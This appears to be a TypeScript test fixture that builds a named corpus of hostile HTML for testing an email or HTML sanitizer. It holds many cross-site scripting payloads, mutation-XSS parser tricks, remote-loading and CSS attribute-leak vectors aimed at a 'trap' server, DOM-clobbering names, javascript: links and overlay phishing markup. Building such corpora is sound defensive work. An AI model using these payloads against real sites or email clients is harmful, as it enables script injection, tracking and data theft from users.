/**
 * HTML that strangers might send: it tries to reach the server `trap`, to run `hit(…)`, or to leave its frame. Each is
 * a body of its own, since some swallow what follows.
 */
const onEvents = [
  ['img', 'src=x onerror'],
  ['body', 'onload'],
  ['div', 'onclick'],
  ['details', 'open ontoggle'],
  ['svg', 'onload'],
  ['input', 'autofocus onfocus'],
  ['video', 'autoplay onloadstart'],
  ['marquee', 'onstart'],
  ['style', 'onload'],
  ['iframe', 'onload'],
  ['object', 'onerror'],
  ['select', 'autofocus onfocus'],
  ['div', 'style="animation:x 1s" onanimationstart'],
  ['div', 'tabindex=1 autofocus onfocusin'],
  ['a', 'href=# onpointerrawupdate'],
  ['xss', 'contenteditable onbeforeinput'],
  ['div', 'popover id=p onbeforetoggle'],
  ['img', 'src=x ONERROR\u000c'],
] as const

/** Content that a careless reader would load or submit. */
const loading = (trap: string): string[] => [
  `<img src="${trap}/img"><img srcset="${trap}/srcset 2x"><img src=x srcset="${trap}/srcset-1 1x, ${trap}/srcset-2 2x" sizes=1px>`,
  `<picture><source srcset="${trap}/source"><source srcset="${trap}/source-webp" type=image/webp><img src="${trap}/in-picture"></picture>`,
  `<img src="//${trap.slice(7)}/relative"><img src="\\\\${trap.slice(7)}/backslash"><img src="\thttp:\n//${trap.slice(7)}/newline">`,
  `<img src="/\u0009/${trap.slice(7)}/tab"><img src="HTTP://${trap.slice(7)}/upper"><img src=" ${trap}/space">`,
  `<input type=image src="${trap}/input"><img lowsrc="${trap}/low" dynsrc="${trap}/dyn" longdesc="${trap}/long" src="cid:none">`,
  `<body background="${trap}/body"><table background="${trap}/background"><tr><td background="${trap}/td">z</td></tr></table>`,
  `<video src="${trap}/video" poster="${trap}/poster" autoplay></video><audio src="${trap}/audio" autoplay></audio><video><track src="${trap}/track" default><source src="${trap}/video-source"></video>`,
  `<iframe src="${trap}/iframe"></iframe><frameset><frame src="${trap}/frame"></frameset><object data="${trap}/object"></object><embed src="${trap}/embed"><applet code="${trap}/applet"></applet><portal src="${trap}/portal"></portal>`,
  `<link rel=stylesheet href="${trap}/css"><link rel=preload as=image href="${trap}/preload"><link rel=modulepreload href="${trap}/module"><link rel=icon href="${trap}/icon"><link rel=manifest href="${trap}/manifest">`,
  `<link rel=preconnect href="${trap}"><link rel=prefetch href="${trap}/prefetch"><link rel=dns-prefetch href="//trap.example"><link rel=prerender href="${trap}/prerender"><base href="${trap}/"><img src="based">`,
  `<meta http-equiv=refresh content="0;url=${trap}/refresh"><meta http-equiv="Content-Security-Policy" content="default-src *"><meta name=referrer content=unsafe-url>`,
  `<meta http-equiv=set-cookie content="a=b"><html manifest="${trap}/appcache"><p>manifest</p></html>`,
  `<form action="${trap}/form"><input name=a><button formaction="${trap}/formaction" autofocus>Go</button></form><isindex action="${trap}/isindex">`,
  `<a href="https://example.org/" ping="${trap}/ping">ping</a><a href="https://example.org/" attributionsrc="${trap}/attribution">a</a><img attributionsrc="${trap}/attribution-img">`,
  `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${trap}/speculation"]}]}</script><script src="${trap}/script.js"></script><script type=importmap>{"imports":{"a":"${trap}/map"}}</script>`,
  `<svg><image href="${trap}/svg-image"/><image xlink:href="${trap}/xlink"/><use href="${trap}/use#x"/><feImage href="${trap}/feimage"/></svg>`,
  `<svg><style>@import url(${trap}/svg-import)</style><defs><filter id=f><feImage xlink:href="${trap}/filter"/></filter></defs><rect filter="url(${trap}/filter#f)" width=9 height=9 /></svg>`,
  `<math><mglyph src="${trap}/mglyph"/><maction actiontype="statusline#${trap}" xlink:href="${trap}/maction">m</maction></math>`,
  `<style>@import "${trap}/import";@import url("${trap}/import-url") screen;@import url(${trap}/import-layer) layer(x);</style><p>import</p>`,
  `<style>body{background:url(${trap}/css-url)} p{background:u\\72l("${trap}/css-escape")} i{background:\\75\\72\\6c(${trap}/escape-all)}</style><p>a</p><i>b</i>`,
  `<style>li{list-style:url('${trap}/list')} b{cursor:url(${trap}/cursor),auto} q::before{content:url(${trap}/content)} s{border-image:url(${trap}/border) 1} u{mask:url(${trap}/mask)} em{shape-outside:url(${trap}/shape)}</style><ul><li>b</li></ul><b>c</b><q>d</q><s>e</s><u>f</u><em>g</em>`,
  `<style>@font-face{font-family:x;src:url(${trap}/font)} @font-face{font-family:y;src:url(${trap}/font-u);unicode-range:U+61} b{font-family:x,y}</style><b>abc</b>`,
  `<style>p{background:image-set('${trap}/image-set' 1x)} b{background:-webkit-image-set("${trap}/webkit-set" 1x)} i{background:cross-fade(url(${trap}/fade),red)} u{background:image("${trap}/image")} s{background:src("${trap}/src")}</style><p>a</p><b>b</b><i>c</i><u>u</u><s>s</s>`,
  `<div style="background-image:url(${trap}/style)">x</div><div style="background:image-set('${trap}/style-set' 1x)">y</div><div style='background:url("${trap}/style-quote")'>z</div>`,
  `<div style="--x:url(${trap}/var);background:var(--x)">var</div><style>:root{--y:url(${trap}/var-root)} p{background:var(--y)}</style><p>y</p>`,
  `<style>p{background:url(/* */${trap}/comment)} b{background:u/**/rl(${trap}/split)} i{background:url(${trap}/unclosed</style><p>a</p><b>b</b><i>c</i>`,
  `<style>@namespace url(${trap}/namespace); @document url(${trap}){p{color:red}} @page{background:url(${trap}/page)} @media print{body{background:url(${trap}/print)}} @supports(display:grid){p{background:url(${trap}/supports)}}</style><p>a</p>`,
  `<style>p[title^="a"]{background:url(${trap}/leak-a)} a[href*=secret]{background:url(${trap}/leak-href)} p::first-line{background:url(${trap}/first-line)}</style><p title=abc>a</p>`,
  `<style></style><style>*{behavior:url(${trap}/behavior);-moz-binding:url(${trap}/binding#x)} p{width:expression(hit('expression'))} b{background:url(javascript:hit('css-js'))}</style><p>a</p><b>b</b>`,
  `<p style="x:expression(hit('style'));behavior:url(${trap}/htc)">a</p><p style="background:url&#40;${trap}/entity&#41;">b</p><p style="background:url\\28 ${trap}/hex\\29">c</p>`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${trap}/in-svg'/><script>hit('svg-data')</script></svg>">`,
  `<img src="data:text/html,<script>hit('data')</script>"><img src="data:image/svg+xml;base64,PHN2Zy8+"><img src="blob:${trap}/x"><img src="filesystem:${trap}/x">`,
  `<img src="cid:../../../${trap}"><img src="cid:${trap}/cid"><img src='cid:"><img src=${trap}/broken-out>'><img src="CID:x@y">`,
  `<img src="/mail/image?url=${encodeURIComponent(`${trap}/own-proxy`)}"><img src="${trap.replace('127.0.0.1', 'localhost')}/localhost"><img src="/api/login"><img src="/jmap/session">`,
  `<img data-remote="${trap}/data-remote" data-cid="x"><img src="" data-remote="javascript:hit('remote')"><div data-remote="${trap}/div">x</div>`,
  `<button popovertarget=x>a</button><div popover id=x>b</div><fencedframe src="${trap}/fenced"></fencedframe><img crossorigin loading=eager importance=high src="${trap}/eager">`,
]

/** Mutations: harmless for one parser, script for the next. */
const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit('m1')&gt;"></mglyph></table></mtext></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit('m2')></style></mglyph></form>`,
  `<svg></p><style><a title="</style><img src onerror=hit('m3')>">`,
  `<noscript><p title="</noscript><img src=x onerror=hit('m4')>"></noscript>`,
  `<svg><foreignObject><math><mi><mglyph><style><a title="</style><img src=x onerror=hit('m5')>"></style></mglyph></mi></math></foreignObject></svg>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=hit('m6')></style></annotation-xml></math>`,
  `<svg><title><style><img src=x onerror=hit('m7')></style></title></svg><svg><desc><img src=x onerror=hit('m7b')></desc></svg>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=hit('m8')>">`,
  `<table><td><svg><style>&lt;img src=x onerror=hit('m9')&gt;</style></td></table>`,
  `<xmp><p title="</xmp><img src=x onerror=hit('m10')>"></xmp><noembed><p title="</noembed><img src=x onerror=hit('m11')>"></noembed><noframes><p title="</noframes><img src=x onerror=hit('m12')>"></noframes>`,
  `<textarea><p title="</textarea><img src=x onerror=hit('m13')>"></textarea><title><p title="</title><img src=x onerror=hit('m14')>"></title>`,
  `<!--><img src=x onerror=hit('m15')>--><!-- --!><img src=x onerror=hit('m16')><![CDATA[<img src=x onerror=hit('m17')>]]><?xml-stylesheet href="javascript:hit('m18')"?>`,
  `<img src="x\`\`onerror=hit('m19')"><div title="\`<img src=x onerror=hit('m20')>">x</div><a title='"><img src=x onerror=hit("m21")>'>y</a>`,
  `<template><img src=x onerror=hit('m22')></template><template shadowrootmode=open><img src=x onerror=hit('m23')></template><div><template shadowrootmode=open><style>*{color:red}</style><script>hit('m24')</script></template></div>`,
  `<svg><a><animate attributeName=href values="javascript:hit('m25')"/><text>x</text></a><set attributeName=onload to="hit('m26')"/></svg>`,
  `<iframe srcdoc="<script>parent.hit('m27')</script>"></iframe><iframe src="javascript:parent.hit('m28')"></iframe><object data="javascript:hit('m29')"></object><embed src="javascript:hit('m30')">`,
  `<math href="javascript:hit('m31')">x</math><maction xlink:href="javascript:hit('m32')">y</maction><svg><a xlink:href="javascript:hit('m33')"><text>z</text></a></svg>`,
  `<div id="x"><style>#x{}</style></div><p is="x-y">custom</p><x-y onclick="hit('m34')">z</x-y><slot name=a onslotchange="hit('m35')"></slot>`,
]

/** Names that stand in for what the page asks its document for, and addresses that lead elsewhere. */
const tricks = [
  ...['body', 'documentElement', 'createElement', 'adoptNode', 'replaceChild', 'addEventListener', 'parentNode'].map(
    (name) =>
      `<img name="${name}"><form name="${name}"><input name="${name}" id="${name}"></form><a id="${name}">x</a>`,
  ),
  `<form id=attributes><input name=attributes><input name=nodeName><input name=parentNode><input name=removeChild></form>`,
  `<a href="javascript:hit('a')">a</a><a href=" javascript:hit('b')">b</a><a href="java\tscript:hit('c')">c</a><a href="&#106;avascript:hit('d')">d</a><a href="vbscript:x">e</a><a href="data:text/html,<script>hit('f')</script>">f</a><a href="\u0001javascript:hit('g')">g</a>`,
  `<a href="https://example.org/" target=_top>top</a><a href="https://example.org/" target=_parent>parent</a><area href="javascript:hit('area')"><map name=m><area shape=rect coords="0,0,999,999" href="javascript:hit('map')"></map><img usemap=#m>`,
  `<div style="position:fixed;inset:0;z-index:99999;background:#fff">Sign in again</div><div style="position:absolute;top:-900px;left:-900px;width:9999px;height:9999px">over</div>`,
  `<dialog open>Sign in</dialog><div contenteditable autofocus>x</div><div tabindex=1 accesskey=e>y</div><marquee>z</marquee><blink>b</blink>`,
  `<div style="height:99999999px">high</div><div style="width:99999999px">wide</div><font size=99999>big</font><p style="margin-top:-99999px">up</p>`,
  `\u202e)noitcerid thgir ni( txet\u202c <bdo dir=rtl>evil</bdo><p dir=rtl>right</p>\u2066\u2067\u2068`,
  `<style>*{display:none!important} body{visibility:hidden} :host{color:red} html{all:initial}</style><p>hidden</p>`,
  `<style>@keyframes x{from{background:red}} *{animation:x 1ms infinite;transition:all 1ms}</style><p>moves</p>`,
]

/** Every one of them by a name. */
export function hostileHtml(trap: string): { readonly name: string; readonly html: string }[] {
  const of = (kind: string, all: readonly string[]) => all.map((html, index) => ({ name: `${kind}-${index}`, html }))
  const events = onEvents.map(([tag, start]) => `<${tag} ${start}="hit('${tag}')">x</${tag}>`)
  return [
    ...of('event', [events.slice(0, 6).join(''), events.slice(6, 12).join(''), events.slice(12).join('')]),
    ...of('script', [
      `<script>hit('script')</script><script src="data:text/javascript,hit('data-script')"></script><SCRIPT/x>hit('slash')</SCRIPT><scr<script>ipt>hit('nested')</script>`,
      `<svg><script>hit('svg-script')</script><script href="data:,hit('svg-href')"/></svg><svg><g onload="hit('g')"/></svg><script type=module>hit('module')</script>`,
    ]),
    ...of('loading', loading(trap)),
    ...of('mutation', mutations),
    ...of('trick', tricks),
    { name: 'deep', html: `${'<div>'.repeat(3000)}deep${'</div>'.repeat(3000)}` },
    { name: 'table-deep', html: `${'<table><tr><td>'.repeat(200)}deep` },
    { name: 'long', html: `<p title="${'x'.repeat(200_000)}">${'long '.repeat(40_000)}</p>` },
    { name: 'css-long', html: `<style>${'p{color:red;background:url('.repeat(5000)}</style><p>css</p>` },
    { name: 'attributes', html: `<p ${Array.from({ length: 3000 }, (_, at) => `a${at}=x`).join(' ')}>many</p>` },
    { name: 'entities', html: '&#0;&#x110000;&#xD800;&amp;amp;&notanentity;\u0000&#13;' },
    { name: 'unclosed', html: '<a href="https://example.org/"><b><i><table><td>unclosed<!--' },
  ]
}
